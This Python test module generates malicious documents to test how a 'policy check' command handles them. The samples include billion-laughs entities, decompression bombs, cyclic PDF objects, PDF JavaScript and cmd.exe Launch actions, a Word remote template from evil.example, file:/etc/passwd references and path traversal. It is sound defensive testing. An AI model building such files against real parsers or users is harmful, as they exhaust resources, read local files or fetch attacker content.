"""Documents handed in as a policy that mean harm: PDF, Word, HTML, Markdown and text."""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import TYPE_CHECKING

from tests.hostile.case import FILE, Case, End, octets
from tests.hostile.packing import entry, zipped
from tests.hostile.sheets import OUTSIDE
from tests.hostile.words import TEXTS

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

WORDS = "You may share what you know with every colleague. Nobody has to ask before they answer a question in public. " * 8
_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"


def word(body: str, *, doctype: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """Return a Word document put together from the text of its parts."""
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document {_NS}><w:body>{body}</w:body></w:document>',
    }  # fmt: skip
    return zipped({name: text.encode() for name, text in parts.items()} | (more or {}))


def paragraph(text: str) -> str:
    """Return a paragraph of a Word document; the text is markup already."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """Return a PDF of these objects, numbered from one."""
    held, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(held))
        held += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(held)
    held += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % at for at in places)
    return bytes(held + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, table))


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream of a PDF, packed."""
    packed = zlib.compress(content, 9)
    return b"<</Length %d/Filter/FlateDecode%s>>\nstream\n%s\nendstream" % (len(packed), more, packed)


_CATALOG, _FONT = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def page(content: bytes, *more: bytes, resources: bytes = b"<</Font<</F1 5 0 R>>>>") -> bytes:
    """Return a PDF of one page."""
    return pdf(
        _CATALOG,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources " + resources + b">>",
        content,
        _FONT,
        *more,
    )


SHOWN = b"BT /F1 12 Tf 72 700 Td (" + WORDS[:800].encode() + b") Tj ET "
_PDFS: dict[str, tuple[Callable[[], bytes], End]] = {
    "pages that are their own parents": (lambda: pdf(_CATALOG, b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"), End.REFUSED),
    "a million pages claimed": (lambda: pdf(_CATALOG, b"<</Type/Pages/Count 1000000/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R>>"), End.REFUSED),
    "a drawing that swells": (lambda: page(stream(b" " * 200_000_000)), End.REFUSED),
    "a drawing packed ten times": (lambda: _packed_over(10), End.REFUSED),
    "a form that draws itself": (lambda: page(stream(b"/X0 Do"), stream(b"/X0 Do", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X0 6 0 R>>>>"), resources=b"<</Font<</F1 5 0 R>>/XObject<</X0 6 0 R>>>>"), End.REFUSED),
    "a length that is itself": (lambda: page(b"<</Length 4 0 R>>\nstream\nBT ET\nendstream"), End.REFUSED),
    "references in a ring": (lambda: pdf(_CATALOG, b"<</Type/Pages/Count 1/Kids 3 0 R>>", b"4 0 R", b"3 0 R"), End.REFUSED),
    "lists 20,000 deep": (lambda: pdf(_CATALOG, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"[" * 20_000 + b"]" * 20_000), End.REFUSED),
    "tables of places in a ring": (lambda: _previous(), End.TAKEN),
    "programs and links": (lambda: page(stream(SHOWN), b"<</S/JavaScript/JS(app.alert(1))>>", b"<</S/Launch/F(cmd.exe)>>").replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction 6 0 R/AA<</O 7 0 R>>"), End.TAKEN),
    "2 million letters shown": (lambda: page(stream(b"BT /F1 12 Tf " + b"(" + b"word " * 400_000 + b") Tj ET")), End.REFUSED),
    "200,000 brackets": (lambda: page(stream(b"[" * 200_000)), End.REFUSED),
    "half of it": (lambda: page(stream(SHOWN))[:400], End.REFUSED),
    "a head alone": (lambda: b"%PDF-1.7", End.REFUSED),
    "a mark after a kilobyte": (lambda: b"x" * 900 + page(stream(SHOWN)), End.REFUSED),
    "locked": (lambda: page(stream(SHOWN)).replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(" + b"a" * 32 + b")/U(" + b"b" * 32 + b")/P -4>>/ID[(a)(a)]"), End.REFUSED),
}  # fmt: skip


def _packed_over(times: int) -> bytes:
    content = b" " * 100_000_000
    for _ in range(times):
        content = zlib.compress(content, 9)
    filters = b"[" + b"/FlateDecode" * times + b"]"
    return page(b"<</Length %d/Filter%s>>\nstream\n%s\nendstream" % (len(content), filters, content))


def _previous() -> bytes:
    made = page(stream(SHOWN))
    at = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


_LETTERS = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}


def _escaped(text: str) -> str:
    return "".join(_LETTERS.get(sign, sign) for sign in text if sign.isprintable() or sign == " ")


def _lzma_word() -> bytes:
    held = io.BytesIO(word(paragraph(WORDS)))
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr(entry("word/styles.xml", method=zipfile.ZIP_LZMA), b"<x/>" * 100)
    packed = bytearray(held.getvalue())
    at = packed.index(b"word/styles.xml") + len(b"word/styles.xml") + 5
    packed[at : at + 4] = b"\xff\xff\xff\xff"
    return bytes(packed)


_WORDS: dict[str, tuple[Callable[[], bytes], End]] = {
    "entities that multiply": (lambda: word(paragraph("&a11;"), doctype=_LAUGHS), End.REFUSED),
    "an entity from outside": (lambda: word(paragraph(f"{WORDS} &e;&f;"), doctype=OUTSIDE), End.TAKEN),
    "a part that swells": (lambda: word(paragraph("x " * 40_000_000)), End.REFUSED),
    "a picture that swells": (lambda: word(paragraph(WORDS), more={"word/media/a.png": bytes(70_000_000)}), End.REFUSED),
    "a window of 4 GB": (_lzma_word, End.TAKEN),
    "3000 parts": (lambda: word(paragraph(WORDS), more={f"word/{n}.xml": b"" for n in range(3000)}), End.REFUSED),
    "elements 5000 deep": (lambda: word("<w:sdt><w:sdtContent>" * 5000 + "</w:sdtContent></w:sdt>" * 5000), End.REFUSED),
    "tables 100 deep": (lambda: word("<w:tbl><w:tr><w:tc>" * 100 + paragraph(WORDS) + "</w:tc></w:tr></w:tbl>" * 100), End.REFUSED),
    "a table of 400,000 cells": (lambda: word("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 63 + "</w:tr>" * 1 + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 63 + "</w:tr>") * 400 + "</w:tbl>" + paragraph(WORDS)), End.TAKEN),
    "a cell over a billion columns": (lambda: word(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{paragraph(WORDS)}</w:tc></w:tr></w:tbl>'), End.REFUSED),
    "a part of another's name": (lambda: word(paragraph(WORDS), more={"../../word/document.xml": b"<x/>"}), End.TAKEN),
    "a template from elsewhere": (lambda: word(paragraph(WORDS), more={"word/_rels/document.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes" Target="file:/etc/passwd" TargetMode="External"/></Relationships>'}), End.TAKEN),
    "a part that is not there": (lambda: word(paragraph(WORDS), more={"word/_rels/document.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="../../../etc/passwd"/></Relationships>'}), End.REFUSED),
    "broken markup": (lambda: word("<w:p><w:r>"), End.REFUSED),
    "half of it": (lambda: word(paragraph(WORDS))[:-60], End.REFUSED),
    "harmful texts": (lambda: word("".join(map(paragraph, map(_escaped, TEXTS.values()))) + paragraph(WORDS)), End.TAKEN),
}  # fmt: skip
_TEXT: dict[str, tuple[str, Callable[[], bytes], End]] = {
    "tags 500,000 deep": ("a.html", lambda: b"<div>" * 500_000 + WORDS.encode(), End.REFUSED),
    "tags 100,000 deep": ("a.html", lambda: b"<div>" * 100_000 + WORDS.encode(), End.TAKEN),
    "comments left open": ("a.html", lambda: WORDS.encode() + b"<!--" * 200_000, End.TAKEN),
    "attributes without end": ("a.html", lambda: b"<p " + b'a="' * 300_000 + WORDS.encode(), End.REFUSED),
    "harmful markup": ("a.html", lambda: ("<p>" + WORDS + "</p><p>".join(TEXTS.values())).encode(), End.TAKEN),
    "brackets left open": ("a.md", lambda: b"# T\n\n" + b"[" * 90_000 + WORDS.encode(), End.TAKEN),
    "quotes 50,000 deep": ("a.md", lambda: b"# T\n\n" + b">" * 50_000 + WORDS.encode(), End.TAKEN),
    "stars without end": ("a.md", lambda: b"# T\n\n" + b"**a_" * 20_000 + WORDS.encode(), End.TAKEN),
    "harmful words": ("a.md", lambda: ("# T\n\n" + WORDS + "\n\n".join(TEXTS.values())).encode(), End.TAKEN),
    "one word of a megabyte": ("a.txt", lambda: b"w" * 1_000_000, End.REFUSED),
    "one sentence of 300,000 letters": ("a.txt", lambda: b"you may not share " * 16_000, End.TAKEN),
    "20 MB": ("a.txt", lambda: WORDS.encode() * 25_000, End.REFUSED),
    "nul": ("a.txt", lambda: bytes(5000), End.REFUSED),
    "UTF-16 in halves": ("a.txt", lambda: b"\xff\xfe" + b"\x00\xd8" * 5000 + WORDS.encode("utf-16-le"), End.TAKEN),
    "nothing": ("a.txt", lambda: b"", End.REFUSED),
    "a workbook": ("a.docx", lambda: zipped({"xl/workbook.xml": b"<x/>"}), End.REFUSED),
    "a program": ("a.pdf", lambda: b"MZ\x90\x00" + bytes(range(256)) * 20, End.REFUSED),
}  # fmt: skip


def documents() -> Iterator[Case]:
    """Give documents that mean harm, for `policy check`."""
    way = ("policy", "check", FILE, "--lang", "en")
    for name, (make, end) in _PDFS.items():
        yield Case(name=f"policy: PDF, {name}", way=way, file="policy.pdf", make=octets(make), end=end)
    for name, (make, end) in _WORDS.items():
        yield Case(name=f"policy: Word, {name}", way=way, file="policy.docx", make=octets(make), end=end)
    for name, (file, make, end) in _TEXT.items():
        yield Case(name=f"policy: {name}", way=way, file=file, make=octets(make), end=end)
